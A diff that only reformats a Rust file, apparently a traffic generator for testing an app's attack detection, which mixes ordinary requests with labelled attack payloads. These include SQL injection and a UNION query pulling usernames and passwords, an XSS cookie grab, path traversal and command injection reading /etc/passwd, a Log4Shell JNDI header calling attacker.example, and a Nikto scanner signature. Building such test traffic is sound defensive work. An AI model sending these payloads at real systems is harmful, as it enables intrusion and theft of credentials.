@@ -28,11 +28,23 @@ struct Req {
 }
 
 const fn get(target: &'static str) -> Req {
-    Req { method: "GET", target, headers: &[], body: "", attack: None }
+    Req {
+        method: "GET",
+        target,
+        headers: &[],
+        body: "",
+        attack: None,
+    }
 }
 
 const fn attack(target: &'static str, what: &'static str) -> Req {
-    Req { method: "GET", target, headers: &[], body: "", attack: Some(what) }
+    Req {
+        method: "GET",
+        target,
+        headers: &[],
+        body: "",
+        attack: Some(what),
+    }
 }
 
 /// The mix, in sending order (attacks spread among ordinary requests).
@@ -42,20 +54,53 @@ const MIX: &[Req] = &[
     get("/products?id=1"),
     attack("/products?id=1'%20OR%201=1--", "SQL injection"),
     get("/products?id=2"),
-    Req { method: "POST", target: "/login", headers: &[("Content-Type", FORM)], body: "user=demo&password=demo", attack: None },
-    attack("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "XSS"),
+    Req {
+        method: "POST",
+        target: "/login",
+        headers: &[("Content-Type", FORM)],
+        body: "user=demo&password=demo",
+        attack: None,
+    },
+    attack(
+        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        "XSS",
+    ),
     get("/products?id=3"),
     get("/search?q=folding+table"),
     attack("/search?q=../../../../etc/passwd", "path traversal"),
     get("/products?id=4"),
-    Req { method: "POST", target: "/login", headers: &[("Content-Type", FORM)], body: "user=alice&password=wrong", attack: None },
+    Req {
+        method: "POST",
+        target: "/login",
+        headers: &[("Content-Type", FORM)],
+        body: "user=alice&password=wrong",
+        attack: None,
+    },
     attack("/search?q=%3Bcat%20/etc/passwd", "command injection"),
     get("/products?id=5"),
-    Req { method: "GET", target: "/", headers: &[("X-Api-Version", "${jndi:ldap://attacker.example/a}")], body: "", attack: Some("Log4Shell") },
+    Req {
+        method: "GET",
+        target: "/",
+        headers: &[("X-Api-Version", "${jndi:ldap://attacker.example/a}")],
+        body: "",
+        attack: Some("Log4Shell"),
+    },
     get("/search?q=lanterns+for+the+garden"),
-    attack("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "SQL injection (UNION)"),
+    attack(
+        "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
+        "SQL injection (UNION)",
+    ),
     get("/products?id=9"),
-    Req { method: "GET", target: "/", headers: &[("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")], body: "", attack: Some("scanner") },
+    Req {
+        method: "GET",
+        target: "/",
+        headers: &[(
+            "User-Agent",
+            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+        )],
+        body: "",
+        attack: Some("scanner"),
+    },
     get("/healthz"),
     Req {
         method: "POST",
@@ -103,7 +148,11 @@ pub fn send(app: SocketAddr, host: &str, stop: &AtomicBool) -> Sent {
             break;
         }
         let mut headers: Vec<(&str, &str)> = vec![("Accept", ACCEPT)];
-        if !r.headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("user-agent")) {
+        if !r
+            .headers
+            .iter()
+            .any(|(k, _)| k.eq_ignore_ascii_case("user-agent"))
+        {
             headers.push(("User-Agent", UA));
         }
         headers.extend_from_slice(r.headers);
